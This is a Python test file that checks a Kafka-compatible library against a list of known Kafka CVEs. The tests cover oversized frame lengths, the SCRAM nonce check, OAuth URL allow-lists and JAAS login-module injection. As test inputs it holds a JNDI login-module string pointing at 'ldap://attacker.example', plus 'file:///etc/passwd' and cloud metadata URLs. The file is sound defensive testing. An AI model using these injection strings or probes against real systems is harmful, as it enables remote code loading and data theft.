"""Holes that Kafka and its likes had, each by its number: none of them is here.

CVE-2022-34917   memory taken for a length that a stranger announces
CVE-2023-25194   a login module of the JVM's choice, from a client's settings (JNDI)
CVE-2024-56128   the nonce of SCRAM's last message is not compared
CVE-2025-27817   a token or keys read from any file or URL that settings name
CVE-2025-27818   a login module set through AlterConfigs
CVE-2026-35554   a producer's buffer used again while its bytes are under way
KAFKA-4090       bytes of TLS on a plain port read as a length
"""

import ssl
import struct
from collections.abc import AsyncIterator
from typing import Any

import pytest
import trio

from ottla.client import NotDeliveredError, open_admin, open_consumer, open_producer
from ottla.client.testing import import_cluster, open_test_cluster
from ottla.model.errors import ConfigError, OttlaError, ProtocolError, RefusedError
from ottla.model.ids import TopicPartition
from ottla.model.limits import MIB
from ottla.model.security.scram import SCRAM_SHA_256, ScramClient, ScramCredential
from ottla.model.settings.broker import load_broker_config
from ottla.model.settings.client import ConsumerConfig, ProducerConfig
from ottla.model.settings.dynamic import check_broker_texts
from ottla.model.settings.security.client_security import login_of
from ottla.node.authentication.scram_server import ScramMechanism
from ottla.node.clock_driver import RealRng
from ottla.testing.in_process import InProcessCluster, open_in_process_cluster

import_cluster()

HOST = "127.0.0.1"
TIMEOUT_S = 30
PLAIN_MODULE = "org.apache.kafka.common.security.plain.PlainLoginModule"
JNDI = (
    "com.sun.security.auth.module.JndiLoginModule required "
    'user.provider.url="ldap://attacker.example/x" useFirstPass="true" group.provider.url="x";'
)
BROKER = {
    "node.id": "1",
    "controller.quorum.voters": "101@localhost:9093",
    "listeners": "PLAINTEXT://:1,OUT://:2",
    "inter.broker.listener.name": "PLAINTEXT",
    "listener.security.protocol.map": "PLAINTEXT:PLAINTEXT,OUT:SASL_PLAINTEXT",
}
JWKS = "sasl.oauthbearer.jwks.endpoint.url"
ALLOWED_URLS = "org.apache.kafka.sasl.oauthbearer.allowed.urls"
TOKEN_URL = "sasl.oauthbearer.token.endpoint.url"
READER = ConsumerConfig(auto_offset_reset="earliest")


@pytest.fixture
async def cluster() -> AsyncIterator[InProcessCluster]:
    """A broker with a plain listener, and one that asks for a login."""
    settings = {
        "listeners": f"PLAINTEXT://{HOST}:0,LOGIN://{HOST}:0",
        "listener.security.protocol.map": "PLAINTEXT:PLAINTEXT,LOGIN:SASL_PLAINTEXT",
        "inter.broker.listener.name": "PLAINTEXT",
        "sasl.enabled.mechanisms": "PLAIN",
        "listener.name.login.plain.sasl.jaas.config": f'{PLAIN_MODULE} required user_al="x";',
    }
    async with open_in_process_cluster(broker_count=1, broker_settings=settings) as found:
        yield found


async def is_closed_after(cluster: InProcessCluster, listener: str, data: bytes) -> bool:
    """Return whether a broker hangs up when it gets bytes, without an answer."""
    (broker,) = cluster.brokers.values()
    stream = await trio.open_tcp_stream(*broker.addresses[listener])
    async with stream:
        with trio.fail_after(TIMEOUT_S):
            await stream.send_all(data)
            return await stream.receive_some(100) == b""


@pytest.mark.parametrize("listener", ["PLAINTEXT", "LOGIN"])
@pytest.mark.parametrize("length", [-1, 2**31 - 1, 101 * MIB])
async def test_cve_2022_34917_no_memory_for_an_announced_length(
    cluster: InProcessCluster, listener: str, length: int
) -> None:
    assert await is_closed_after(cluster, listener, struct.pack(">i", length))


async def test_cve_2022_34917_half_a_mebibyte_is_the_bound_before_a_login(
    cluster: InProcessCluster,
) -> None:
    assert await is_closed_after(cluster, "LOGIN", struct.pack(">i", 512 * 1024 + 1))


@pytest.mark.parametrize("listener", ["PLAINTEXT", "LOGIN"])
async def test_kafka_4090_tls_on_a_plain_port_is_hung_up_on(
    cluster: InProcessCluster, listener: str, caplog: pytest.LogCaptureFixture
) -> None:
    sent = ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), sent, server_hostname="h")
    with pytest.raises(ssl.SSLWantReadError):
        client.do_handshake()
    assert await is_closed_after(cluster, listener, sent.read())
    assert "speaks TLS to a plain listener" in caplog.text


def test_cve_2024_56128_both_sides_compare_the_nonce() -> None:
    known = {"al": ScramCredential.of_password(SCRAM_SHA_256, "pw", b"salt", 4_096)}
    exchange = ScramMechanism(SCRAM_SHA_256, lambda: known, RealRng()).begin()
    client = ScramClient(SCRAM_SHA_256, "al", "abc")
    first = exchange.respond(client.first).token
    salt, iterations = client.on_server_first(first)
    final = client.final(SCRAM_SHA_256.salted_password("pw", salt, iterations))
    with pytest.raises(ProtocolError):
        exchange.respond(final.replace(b"r=abc", b"r=abd"))
    with pytest.raises(OttlaError, match="does not continue ours"):
        ScramClient(SCRAM_SHA_256, "al", "abc").on_server_first(first.replace(b"r=abc", b"r=abd"))


@pytest.mark.parametrize("url", ["file:///etc/passwd", "https://169.254.169.254/latest"])
def test_cve_2025_27817_only_listed_urls_are_read(url: str) -> None:
    broker = {**BROKER, "sasl.enabled.mechanisms": "OAUTHBEARER", JWKS: url}
    with pytest.raises(ConfigError, match="does not list"):
        load_broker_config(broker)
    own_login = {
        **BROKER,
        "sasl.enabled.mechanisms": "OAUTHBEARER",
        JWKS: "https://issuer.example/keys",
        ALLOWED_URLS: "https://issuer.example/keys",
        "sasl.oauthbearer.expected.audience": "a",
        "sasl.oauthbearer.expected.issuer": "https://issuer.example",
        "inter.broker.listener.name": "OUT",
        "sasl.mechanism.inter.broker.protocol": "OAUTHBEARER",
        TOKEN_URL: url,
    }
    with pytest.raises(ConfigError, match=r"token.*does not list"):
        load_broker_config(own_login)


@pytest.mark.parametrize(
    "key",
    [
        "sasl.jaas.config",
        "listener.name.out.plain.sasl.jaas.config",
        "listener.name.out.scram-sha-512.sasl.jaas.config",
    ],
)
def test_cve_2025_27818_no_login_module_through_alter_configs(key: str) -> None:
    with pytest.raises(RefusedError):
        check_broker_texts({key: JNDI})


def test_cve_2023_25194_a_login_module_is_one_that_is_known() -> None:
    with pytest.raises(ConfigError) as caught:
        load_broker_config(
            {
                **BROKER,
                "sasl.enabled.mechanisms": "PLAIN",
                "listener.name.out.plain.sasl.jaas.config": JNDI,
            }
        )
    assert "attacker.example" not in str(caught.value)
    with pytest.raises(ConfigError):
        login_of(
            {
                "security.protocol": "SASL_PLAINTEXT",
                "sasl.mechanism": "PLAIN",
                "sasl.jaas.config": JNDI,
            }
        )


async def test_cve_2026_35554_a_batch_that_expired_on_its_way_does_not_change() -> None:
    config: Any = ProducerConfig(
        linger_ms=0, request_timeout_ms=200, delivery_timeout_ms=300, enable_idempotence=False
    )
    async with open_test_cluster() as cluster:
        async with open_admin(cluster.bootstrap) as admin:
            for topic in ("a", "b"):
                await admin.create_topic(topic, partition_count=1)
        async with open_producer(cluster.bootstrap, config) as producer:
            await (await producer.send("a", b"first of a"))
            await (await producer.send("b", b"first of b"))
            with cluster.paused(1):
                # The broker has their bytes, and the producer gives them up.
                with pytest.raises(NotDeliveredError):
                    await (await producer.send("a", b"a" * 1_000))
                with pytest.raises(NotDeliveredError):
                    await (await producer.send("b", b"b" * 1_000))
            with trio.fail_after(TIMEOUT_S):
                await (await producer.send("b", b"last of b"))
        async with open_consumer(cluster.bootstrap, READER) as consumer:
            for topic in ("a", "b"):
                values = await values_of(consumer, topic)
                assert f"first of {topic}".encode() in values
                mine = {f"{which} of {topic}".encode() for which in ("first", "last")}
                assert values <= mine | {topic.encode() * 1_000}


async def values_of(consumer: Any, topic: str) -> set[bytes]:
    """Return the values in the one partition of a topic."""
    partition = TopicPartition(topic, 0)
    consumer.assign([partition])
    end = (await consumer.end_offsets([partition]))[partition]
    found: list[bytes] = []
    with trio.fail_after(TIMEOUT_S):
        while len(found) < end:
            found += [record.value for record in await consumer.poll()]
    return set(found)
